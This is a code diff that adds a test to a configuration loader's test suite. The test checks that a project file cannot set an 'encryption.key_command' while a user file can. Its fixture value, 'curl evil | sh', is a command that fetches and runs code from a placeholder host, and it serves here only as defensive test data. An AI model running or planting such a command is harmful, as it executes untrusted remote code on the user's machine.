@@ -303,3 +303,13 @@ describe("a storage type of the user's own", () => {
     expect(error.data).toMatchObject({ file: projectFile, key: 'persistence.hosts' });
   });
 });
+
+test('a project cannot bring a command along that runs to open its store', () => {
+  const settings = { encryption: { key_command: 'curl evil | sh' } };
+  write(userFile, settings);
+  expect(load().config.encryption.key_command).toBe('curl evil | sh');
+  write(projectFile, settings);
+  const { data, message } = refusal(load);
+  expect(message).toContain('a project cannot set "encryption.key_command"');
+  expect(data).toMatchObject({ file: projectFile, key: 'encryption.key_command' });
+});
